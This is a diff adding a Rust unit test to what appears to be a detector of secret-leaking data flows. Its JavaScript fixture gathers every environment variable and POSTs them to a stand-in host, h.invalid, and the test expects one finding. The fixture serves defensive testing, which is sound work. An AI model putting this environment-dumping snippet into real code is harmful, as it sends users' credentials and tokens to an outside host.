@@ -354,3 +354,12 @@ fn powershell_credential_files_and_named_secrets_in_the_body_are_flows() {
     let header = "Invoke-RestMethod -Uri https://api.github.invalid/user -Headers @{ Authorization = \"token $env:GITHUB_TOKEN\" }\n";
     assert!(flows(&[("s.ps1", header)]).is_empty());
 }
+
+#[test]
+fn callbacks_over_the_environment_carry_it_into_what_they_fill() {
+    let js = "const body = [];\nObject.entries(process.env).forEach(([k, v]) => { body.push(`${k}=${v}`); });\n\
+              require('https').request({ host: 'h.invalid', method: 'POST' }).end(body.join('&'));\n";
+    let out = flows(&[("a.js", js)]);
+    assert_eq!(out.len(), 1, "{out:?}");
+    assert_eq!(out[0].finding.line, 3);
+}
